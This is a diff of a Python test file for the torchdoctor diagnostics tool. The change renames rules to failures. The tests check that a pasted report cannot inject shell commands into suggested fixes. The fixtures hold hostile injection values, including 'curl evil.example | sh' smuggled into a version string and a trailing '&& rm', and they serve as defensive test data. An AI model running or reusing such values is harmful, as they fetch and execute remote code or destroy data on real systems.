@@ -10,8 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from torchdoctor.diagnose import diagnose_text
-from torchdoctor.diagnose.rules import RULES
+from torchdoctor.diagnose import all_failures, diagnose_text
 from torchdoctor.report.terminal.diagnosis import diagnosis_markdown, diagnosis_text
 
 BAD = "2.9.1; curl evil.example | sh #"
@@ -27,7 +26,7 @@ OS: Ubuntu 22.04 (x86_64) && rm
 
 
 def test_nothing_of_the_paste_enters_a_command():
-    """Every step is one of the rules' own with values that were checked."""
+    """Every step is one of the failure's own with values that were checked."""
     for finding in diagnose_text(REPORT).findings:
         for step in finding.fix:
             assert not re.search(r"evil|reboot\)|`id`|alert", step)
@@ -42,9 +41,9 @@ def test_a_sign_of_the_shell_in_a_version_keeps_it_out(sign):
 
 
 def test_commands_of_fixes_can_be_split_by_a_shell():
-    """Quotes are closed in every command of every rule."""
-    for rule in RULES:
-        for step in rule.steps:
+    """Quotes are closed in every command of every failure."""
+    for failure in all_failures():
+        for step in failure.fixes:
             if step.command and "windows" not in step.os:
                 shlex.split(step.command.format_map({}.fromkeys(re.findall(r"{(\w+)}", step.command), "x")))
 
